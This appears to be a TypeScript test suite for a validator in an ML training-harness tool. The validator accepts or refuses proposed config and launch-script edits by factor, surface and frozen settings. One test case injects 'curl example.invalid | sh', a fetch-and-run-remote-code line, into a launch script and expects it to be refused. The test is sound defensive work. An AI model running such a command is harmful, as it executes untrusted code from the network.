import assert from "node:assert/strict";
import type { FileSource } from "../project/source.ts";
import { outcomeProblems } from "./outcomeProblems.ts";

const files: Readonly<Record<string, string>> = {
  "evotrainer.yaml": `apiVersion: evotrainer/v1
kind: Project
name: toy
domain: toy
trainer: { command: [node, trainer.mjs] }
evaluation:
  splits: { train: data/train.jsonl, selection: data/selection.jsonl, audit: data/audit.jsonl }
  files: [trainer.mjs]
surfaces:
  - { factor: reward, file: harness/toy.yaml, paths: [shape, bonus] }
  - { factor: optimisation, file: harness/toy.yaml, paths: [lr] }
  - { factor: environment, file: harness/prompt.txt }
  - { factor: sampling, file: run.sh }
frozen:
  - { file: harness/toy.yaml, paths: [gpus] }
`,
  "harness/toy.yaml": "shape: flat\nbonus: 0\nlr: 1\ngpus: 8\nother: 1\nrun_name: a\n",
  "harness/prompt.txt": "Solve it.\n",
  "run.sh": "set -x\npython train.py --temperature 1.0 --n 8\n",
  "harness/other.yaml": "run_name: a\n",
  "trainer.mjs": "",
  "harness/diagnostics/leak.diagnostic.yaml":
    "apiVersion: evotrainer/v1\nkind: Diagnostic\nname: leak\nlabel: { when: 'reward > 1' }\n",
};
const source: FileSource = {
  name: "the parent",
  read: (path) => Promise.resolve(files[path]),
  list: (folder) =>
    Promise.resolve(Object.keys(files).filter((path) => path.slice(0, path.lastIndexOf("/")) === folder)),
};

describe("the check of a future version", () => {
  const config = "harness/toy.yaml";
  const cases: [string, Readonly<Record<string, (text: string) => string | null>>, RegExp | null][] = [
    ["one value", { [config]: (t) => t.replace("flat", "linear") }, null],
    [
      "two values of one factor",
      { [config]: (t) => t.replace("flat", "linear").replace("bonus: 0", "bonus: 1") },
      null,
    ],
    ["a text on its own surface", { "harness/prompt.txt": () => "Think.\n" }, null],
    ["a value of a launch script", { "run.sh": (t) => t.replace("1.0", "1.2") }, null],
    [
      "a command of a launch script",
      { "run.sh": (t) => `${t.replace("1.0", "1.2")}curl example.invalid | sh\n` },
      /^More than the values of run\.sh would change; a version may only change its values\.$/,
    ],
    [
      "a launch script that becomes a setting of another",
      { "run.sh": (t) => t.replace("train.py", "x.py") },
      /^More than/,
    ],
    ["a value and its comment", { [config]: (t) => t.replace("flat", "linear # why") }, null],
    [
      "a diagnostic beside the change",
      {
        [config]: (t) => t.replace("flat", "x"),
        "harness/diagnostics/leak.diagnostic.yaml": (t) => t.replace("> 1", "> 2"),
      },
      /^2 factors would change \(reward and diagnostics\)/,
    ],
    [
      "a diagnostic alone",
      { "harness/diagnostics/leak.diagnostic.yaml": (t) => t.replace("> 1", "> 2") },
      null,
    ],
    [
      "thresholds of the library",
      { "evotrainer.yaml": (t) => `${t}library: { params: {} , use: none }\n` },
      null,
    ],
    ["nothing", { [config]: (t) => t }, /^Nothing would differ/],
    ["only bookkeeping", { [config]: (t) => t.replace("run_name: a", "run_name: b") }, /^Only bookkeeping/],
    [
      "a name of runs in a file that is not declared",
      {
        [config]: (t) => t.replace("flat", "linear"),
        "harness/other.yaml": () => "run_name: b\n",
      },
      /^run_name in harness\/other\.yaml is not on a declared surface/,
    ],
    [
      "two factors",
      { [config]: (t) => t.replace("flat", "linear").replace("lr: 1", "lr: 2") },
      /^2 factors would change \((reward and optimisation|optimisation and reward)\)/,
    ],
    [
      "factors of two files",
      { [config]: (t) => t.replace("flat", "linear"), "harness/prompt.txt": () => "x" },
      /^2 factors/,
    ],
    [
      "a frozen value",
      { [config]: (t) => t.replace("gpus: 8", "gpus: 4") },
      /^gpus in harness\/toy\.yaml is frozen/,
    ],
    [
      "a value on no surface",
      { [config]: (t) => t.replace("other: 1", "other: 2") },
      /^other in .* not on a declared surface/,
    ],
    [
      "a new value on no surface",
      { [config]: (t) => `${t}more: 1\n` },
      /^more in .* not on a declared surface/,
    ],
    ["a file of the evaluation", { "trainer.mjs": () => "x" }, /^trainer\.mjs is frozen/],
    ["a file on no surface", { "notes.md": () => "x" }, /^notes\.md is not on a declared surface/],
    ["a deleted config", { [config]: () => null }, /^harness\/toy\.yaml is not on a declared surface/],
    ["broken YAML", { [config]: () => "shape: [\n" }, /not valid YAML/],
    [
      "a broken spec",
      {
        [config]: (t) => t.replace("flat", "x"),
        "harness/diagnostics/leak.diagnostic.yaml": (t) => t.replace("label", "lable"),
      },
      /^harness\/diagnostics\/leak\.diagnostic\.yaml:\d+: /,
    ],
    [
      "another metric",
      { "evotrainer.yaml": (t) => `${t}metric: { aggregator: micro }\n` },
      /^metric in evotrainer\.yaml would change/,
    ],
    [
      "changed surfaces",
      { "evotrainer.yaml": (t) => t.replace("[lr]", "[lr, gpus]") },
      /^surfaces in evotrainer\.yaml would change/,
    ],
    ["a broken project", { "evotrainer.yaml": () => "kind: Project\n" }, /^evotrainer\.yaml:\d+: /],
  ];
  for (const [what, edits, expected] of cases)
    it(`${expected === null ? "accepts" : "refuses"} ${what}`, async () => {
      const outcome = Object.entries(edits).map(([path, edit]) => ({
        path,
        before: files[path] ?? null,
        after: edit(files[path] ?? ""),
      }));
      const problems = await outcomeProblems(source, outcome);
      if (expected === null) assert.deepEqual(problems, []);
      else assert.match(problems.join("\n"), expected);
    });

  it("lets a merge bring the factors of its second parent together, and no other", async () => {
    const before = files[config] ?? "";
    const outcome = [
      { path: config, before, after: before.replace("flat", "linear").replace("lr: 1", "lr: 2") },
    ];
    assert.deepEqual(await outcomeProblems(source, outcome, ["reward", "optimisation"]), []);
    for (const merged of [[], ["reward"], ["reward", "data"]] as const)
      assert.match((await outcomeProblems(source, outcome, merged)).join(), /^2 factors would change/);
    const frozen = [
      { path: config, before, after: before.replace("flat", "linear").replace("gpus: 8", "gpus: 4") },
    ];
    assert.match((await outcomeProblems(source, frozen, ["reward", "optimisation"])).join(), /is frozen/);
  });
});
